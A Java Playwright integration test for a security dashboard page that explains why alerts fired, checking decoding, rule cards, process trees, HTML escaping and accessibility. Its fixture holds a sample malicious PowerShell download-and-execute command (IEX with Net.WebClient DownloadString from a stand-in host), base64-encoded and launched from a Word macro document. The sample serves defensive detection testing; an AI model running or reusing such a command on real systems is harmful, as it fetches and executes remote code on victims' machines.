package io.watchfloor.dashboards.web;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.ColorScheme;
import io.watchfloor.dashboards.board.BoardDatabase;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Explanations of alerts on the page, with built-in rules. */
@ExtendWith({BoardDatabase.class, OpenPage.class})
class WhyPageIT {

    private static final String WORKSTATION = "host:ws-0417.corp.example";
    private static final String COMMAND =
            "IEX (New-Object Net.WebClient).DownloadString('https://docs-corp.example/<b>w02</b>')";
    private static final String ENCODED =
            Base64.getEncoder().encodeToString(COMMAND.getBytes(StandardCharsets.UTF_16LE));

    private static Browser browser;
    private static PageCenter center;

    private String id = "";

    @BeforeAll
    static void start(Browser opened, PageCenter behind) {
        browser = opened;
        center = behind;
    }

    @BeforeEach
    void tell() {
        id = center.open("high", "A rule that is gone", WORKSTATION);
        center.alert(id, "medium", PageCenter.ENCODED_COMMAND, WORKSTATION, """
                {"logsource":{"product":"windows","category":"process_creation"},"asset":"ws-0417.corp.example","fields":{\
                "Image":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe","ProcessGuid":"{B}",\
                "CommandLine":"powershell.exe -NoP -enc %s","ParentProcessGuid":"{A}","User":"CORP\\\\ann",\
                "ParentImage":"C:\\\\Office\\\\WINWORD.EXE","ParentCommandLine":"WINWORD.EXE plan.docm"}}""".formatted(ENCODED));
    }

    @Test
    void anAlertSaysInWordsWhyItExists() {
        try (BrowserContext person = browser.person(1280, 800)) {
            Page page = open(person);
            Locator alert =
                    page.locator("wf-alert").filter(new Locator.FilterOptions().setHasText(PageCenter.ENCODED_COMMAND));
            assertThat(alert.locator("summary").first()).containsText("CommandLine matches the regular expression");
            assertThat(alert.locator(".glance").last()).containsText("IEX (New-Object");

            alert.locator("summary").first().focus();
            page.keyboard().press("Enter");

            assertThat(alert.locator(".reasons")).containsText("Image ends with “\\powershell.exe”");
            assertThat(alert.locator(".reasons mark").first()).hasText("\\powershell.exe");
            assertThat(alert.locator(".decoded")).containsText("Text only, not executed.");
            assertThat(alert.locator(".decoded pre").last()).hasText(COMMAND);
            Locator card = alert.locator(".rule-card");
            assertThat(card).containsText("False positives");
            assertThat(card).containsText("Command and Scripting Interpreter: PowerShell");
            assertThat(card.locator("a[href^='https://attack.mitre.org/']").first())
                    .hasAttribute("rel", "noopener noreferrer");
            assertThat(alert.locator("details.record pre")).not().isVisible();
            assertThat(page.locator(".tree")).containsText("WINWORD.EXE");
            assertThat(page.locator(".tree ul .program")).hasText("powershell.exe");
            assertThat(page.locator("main b")).hasCount(0);
        }
    }

    @Test
    void aRuleThatIsGoneStillHasItsName() {
        try (BrowserContext person = browser.person(1280, 800)) {
            Page page = open(person);
            Locator alert =
                    page.locator("wf-alert").filter(new Locator.FilterOptions().setHasText("A rule that is gone"));
            alert.locator("summary").first().click();
            assertThat(alert.locator(".rule-card h3")).containsText("A rule that is gone");
            assertThat(alert.locator(".rule-card")).containsText("no longer active");
        }
    }

    @ParameterizedTest
    @CsvSource({"1280, LIGHT", "390, DARK"})
    void everyoneCanReadIt(int width, ColorScheme scheme) {
        try (BrowserContext person = browser.person(width, 800)) {
            Page page = person.newPage();
            page.emulateMedia(new Page.EmulateMediaOptions().setColorScheme(scheme));
            open(page);
            Folds.openAll(page, "wf-alert > details", 2);
            assertThat(page.locator(".decoded").first()).isVisible();
            Folds.openAll(page, "wf-alert details.record", 2);
            assertThat(page.locator("wf-alert details.record pre").last()).isVisible();
            Readability.accessible(page, "why");
            Readability.fits(page, width);
            Pictures.take(page, "why-" + width + scheme);
        }
    }

    private Page open(BrowserContext person) {
        return open(person.newPage());
    }

    private Page open(Page page) {
        center.signIn(page.context(), "mina");
        page.navigate(center.url() + "/cases/" + id);
        assertThat(page.locator("wf-alert")).hasCount(2);
        assertThat(page.locator(".tree")).isVisible();
        return page;
    }
}
